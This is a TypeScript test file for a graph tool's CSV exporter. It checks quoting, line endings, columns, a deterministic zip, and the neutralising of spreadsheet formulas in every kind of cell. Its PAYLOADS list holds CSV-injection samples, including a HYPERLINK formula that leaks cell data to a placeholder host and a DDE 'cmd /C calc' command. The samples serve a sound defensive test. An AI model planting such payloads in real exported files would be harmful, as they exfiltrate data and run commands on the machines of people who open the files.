// Pins the CSV writer: RFC 4180 quoting, CRLF, its columns, spreadsheet-formula neutralisation, and a deterministic zip.
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { CompiledGraph } from '../types.ts';
import { parseCsv } from './csv-parse.ts';
import { CSV_EDGE_COLUMNS, CSV_NODE_COLUMNS, csvField, exportCsv, exportCsvZip } from './export-csv.ts';
import { importCsvZip } from './import-csv-zip.ts';
import { ProblemCollector } from './problems.ts';
import { SAMPLE } from './test-support/sample-graph.ts';

describe('csvField', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField('中文 😀')).toBe('中文 😀');
  });

  it('prefixes and quotes a cell a spreadsheet would read as a formula', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('-5')).toBe(`"'-5"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField("'quoted")).toBe(`"''quoted"`);
    expect(csvField('a=1')).toBe('a=1');
  });
});

describe('exportCsv', () => {
  it('writes the node and edge columns, typed extra attributes, and CRLF line ends', () => {
    const { nodes, edges, sources, graph } = exportCsv(SAMPLE);
    expect(nodes.split('\r\n')[0]).toBe([...CSV_NODE_COLUMNS, 'weight:double', 'ok:boolean', 'x', 'y', 'color'].join(','));
    expect(nodes.split('\r\n')[1]).toBe('a,org,"A & ""B""",甲,AA,d,,,,,2,true,1,2,#112233');
    expect(edges.split('\r\n')[0]).toBe(CSV_EDGE_COLUMNS.join(','));
    expect(edges.split('\r\n')[1]).toBe('r1,a,b,true,funds,fact,stated,false,2024,,“q” — Report https://example.org,s1,q');
    expect(edges.split('\r\n')[2]).toBe('r2,b,a,false,rivals,opinion,stated,false,,,,,');
    expect(sources).toBe('id,title,descriptive_title,publisher,date,language,url\r\ns1,Report,false,P,2024,en,https://example.org\r\n');
    expect(graph).toBe('title\r\nfuzz\r\n');
    expect(edges.endsWith('\r\n')).toBe(true);
  });

  it('writes basis, negated, background and descriptive_title in their own columns', () => {
    const graph: CompiledGraph = structuredClone(SAMPLE);
    Object.assign(graph.relations[0]!, { basis: 'inferred', negated: true, modality: 'question', date: '2026/2027' });
    graph.entities[1]!.background = { en: 'owned by A', zh: '甲所有' };
    graph.sources[0]!.descriptiveTitle = true;
    const { nodes, edges, sources } = exportCsv(graph);
    expect(nodes.split('\r\n')[2]).toBe('b,org,<b>,,,,,owned by A,甲所有,,,,,,#112233');
    expect(edges.split('\r\n')[1]).toBe('r1,a,b,true,funds,question,inferred,true,2026/2027,,“q” — Report https://example.org,s1,q');
    expect(sources.split('\r\n')[1]).toBe('s1,Report,true,P,2024,en,https://example.org');
  });
});

/** Payloads that a spreadsheet would run, in every kind of cell the export writes. */
const PAYLOADS = [
  '=HYPERLINK("http://x.example/?leak="&A1,"x")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
];

function hostileGraph(): CompiledGraph {
  const graph: CompiledGraph = structuredClone(SAMPLE);
  const [a, b] = graph.entities;
  a!.name = { en: PAYLOADS[0]!, zh: PAYLOADS[1]! };
  a!.type = PAYLOADS[2]!;
  a!.aliases = [PAYLOADS[3]!, 'plain'];
  a!.description = { en: PAYLOADS[4]!, zh: PAYLOADS[5]! };
  a!.background = { en: PAYLOADS[5]!, zh: PAYLOADS[3]! };
  a!.attributes = { [PAYLOADS[0]!]: PAYLOADS[6]!, n: -5, s: '-5', t: "'x" };
  b!.id = PAYLOADS[1]!;
  const r1 = graph.relations[0]!;
  r1.target = b!.id;
  r1.date = PAYLOADS[2]!;
  r1.note = PAYLOADS[0]!;
  r1.evidence = [{ source: 's1', quote: PAYLOADS[3]! }];
  graph.relations[1]!.source = b!.id;
  graph.relations[1]!.id = PAYLOADS[6]!;
  graph.sources[0]!.title = PAYLOADS[0]!;
  graph.title = PAYLOADS[0]!;
  graph.positions = { [b!.id]: { x: -1.5, y: -2 } };
  return graph;
}

describe('spreadsheet formulas in CSV exports', () => {
  it('never starts a cell with = + - @, TAB or CR: ids, names, types, background, notes, dates, attributes, headers and the title', () => {
    const tables = exportCsv(hostileGraph());
    for (const [name, text] of Object.entries(tables)) {
      const table = parseCsv(text, new ProblemCollector(`${name}.csv`));
      for (const cell of [...table.header, ...table.rows.flatMap((r) => r.fields)]) {
        expect({ table: name, cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ table: name, cell, formula: false });
      }
    }
    expect(tables.nodes).toContain(`"'=HYPERLINK(""http://x.example/?leak=""&A1,""x"")"`);
  });

  it('reads its own neutralised cells back unchanged, including "-5" and a value that starts with an apostrophe', () => {
    const graph = hostileGraph();
    const { graph: back } = importCsvZip(exportCsvZip(graph), { fileName: 'hostile.zip' });
    expect(back.title).toBe(graph.title);
    expect(back.sources[0]!.title).toBe(PAYLOADS[0]);
    const [a, b] = back.entities;
    expect(a).toMatchObject({ name: graph.entities[0]!.name, type: PAYLOADS[2], aliases: [PAYLOADS[3], 'plain'] });
    expect(a!.description).toEqual(graph.entities[0]!.description);
    expect(a!.background).toEqual(graph.entities[0]!.background);
    expect(a!.attributes).toEqual({ [PAYLOADS[0]!]: PAYLOADS[6], n: -5, s: '-5', t: "'x" });
    expect(b!.id).toBe(PAYLOADS[1]);
    expect(back.relations[0]).toMatchObject({
      target: PAYLOADS[1],
      date: PAYLOADS[2],
      note: PAYLOADS[0],
      evidence: [{ source: 's1', quote: PAYLOADS[3] }],
    });
    expect(back.relations[1]!.id).toBe(PAYLOADS[6]);
    expect(back.positions).toEqual(graph.positions);
  });
});

describe('exportCsvZip', () => {
  it('zips the four tables with a UTF-8 BOM each, the same bytes every time', () => {
    const zip = exportCsvZip(SAMPLE);
    const files = unzipSync(zip);
    expect(Object.keys(files).sort()).toEqual(['edges.csv', 'graph.csv', 'nodes.csv', 'sources.csv']);
    expect([...files['nodes.csv']!.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(strFromU8(files['nodes.csv']!.subarray(3))).toBe(exportCsv(SAMPLE).nodes);
    expect(exportCsvZip(SAMPLE)).toEqual(zip);
  });
});
